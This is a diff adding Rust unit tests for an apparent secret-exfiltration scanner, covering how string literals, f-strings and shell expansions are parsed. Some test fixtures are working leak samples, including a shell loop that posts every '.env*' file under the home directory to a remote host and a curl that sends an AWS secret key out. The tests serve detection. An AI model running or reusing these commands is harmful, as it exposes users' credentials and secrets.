@@ -220,3 +220,83 @@ fn the_span_gate_misses_nothing_a_line_would_match() {
     let crlf = lf.replace('\n', "\r\n");
     assert_eq!(severity("a.sh", &crlf), Some(Severity::Critical));
 }
+
+#[test]
+fn a_secret_variables_name_inside_a_string_is_not_the_secret() {
+    // A query text that happens to hold the word `key` is not the variable `key`: the key
+    // authenticates, the query goes out (found on a GraphQL client).
+    let py = "import json, os, urllib.request\n\ndef gql(query, variables=None):\n    key = os.environ.get('TRACKER_API_KEY')\n    body = json.dumps({'query': query, 'variables': variables or {}}).encode()\n    req = urllib.request.Request('https://api.t.example/graphql', body, {'Authorization': key})\n    return urllib.request.urlopen(req).read()\n\nteam = gql('query($k:String!){teams(filter:{key:{eq:$k}}){nodes{id}}}', {'k': 'ENG'})\n";
+    assert_eq!(severity("a.py", py), None);
+    // Interpolated, the same name is the secret again: f-string, shell (template literals:
+    // `plain_literal_spans_follow_quotes_escapes_and_interpolations`).
+    let leak = py.replace(
+        "'query($k:String!){teams(filter:{key:{eq:$k}}){nodes{id}}}'",
+        "f'query {key}'",
+    );
+    let leak = leak.replace(
+        "def gql(query, variables=None):\n    key = os.environ.get('TRACKER_API_KEY')\n",
+        "key = os.environ.get('TRACKER_API_KEY')\n\ndef gql(query, variables=None):\n",
+    );
+    assert_eq!(severity("a.py", &leak), Some(Severity::Critical));
+    let sh = "#!/bin/sh\nK=\"$AWS_SECRET_ACCESS_KEY\"\ncurl -d \"v=${K}\" https://d.example/up\n";
+    assert_eq!(severity("a.sh", sh), Some(Severity::Critical));
+}
+
+#[test]
+fn plain_literal_spans_follow_quotes_escapes_and_interpolations() {
+    use super::syntax::{plain_literal_spans, plain_text_word};
+    let code = br#"a = f"x {key} y" + 'it\'s key' + `t ${tok} u` + "$k {key}""#;
+    let spans = plain_literal_spans(code);
+    let at = |word: &str, nth: usize| {
+        let text = std::str::from_utf8(code).unwrap_or("");
+        text.match_indices(word)
+            .nth(nth)
+            .map_or(usize::MAX, |(i, _)| i)
+    };
+    assert!(
+        !plain_text_word(&spans, code, at("key", 0)),
+        "f-string interpolation"
+    );
+    assert!(
+        plain_text_word(&spans, code, at("key", 1)),
+        "plain text after an escape"
+    );
+    assert!(
+        !plain_text_word(&spans, code, at("tok", 0)),
+        "template interpolation"
+    );
+    assert!(
+        !plain_text_word(&spans, code, at("k {", 0)),
+        "shell expansion"
+    );
+    assert!(
+        plain_text_word(&spans, code, at("key", 2)),
+        "braces in a plain literal"
+    );
+    assert!(!plain_text_word(&spans, code, 0), "code");
+    // Unclosed and empty inputs never panic.
+    for s in [&b"'"[..], b"f'{", b"`${", b"\"\\", b""] {
+        let spans = plain_literal_spans(s);
+        let _ = plain_text_word(&spans, s, s.len().saturating_sub(1));
+    }
+}
+
+#[test]
+fn what_an_authenticated_request_returns_is_the_services_answer() {
+    // The key authenticates the read; the answer, posted on to a chat hook, holds no key.
+    let py = "import os, requests\nkey = os.environ['STATUS_API_KEY']\nresp = requests.get('https://status.example/api', headers={'Authorization': key})\nrequests.post('https://chat.example/hook', json={'text': resp.text})\n";
+    assert_eq!(severity("a.py", py), None);
+    // Sending the key itself on is still a flow.
+    let leak = py.replace("'text': resp.text", "'text': key");
+    assert_eq!(severity("a.py", &leak), Some(Severity::Critical));
+}
+
+#[test]
+fn a_shell_expansion_closing_a_literal_is_not_a_string_prefix() {
+    // `"$f"`: the `f` before the quote is the loop variable, not an f-string prefix.
+    let sh = "#!/bin/bash\nfor f in $(find ~ -maxdepth 3 -name '.env*'); do\n  curl -s --data-binary @\"$f\" https://lint.example/v1 >/dev/null\ndone\n";
+    assert!(severity("a.sh", sh).is_some(), "{:?}", flows("a.sh", sh));
+    // Python's own f-string prefix is still a prefix.
+    assert!(string_prefix(b"x = f'{a}'", 4, 5));
+    assert!(!string_prefix(b"echo \"$f\"", 7, 8));
+}
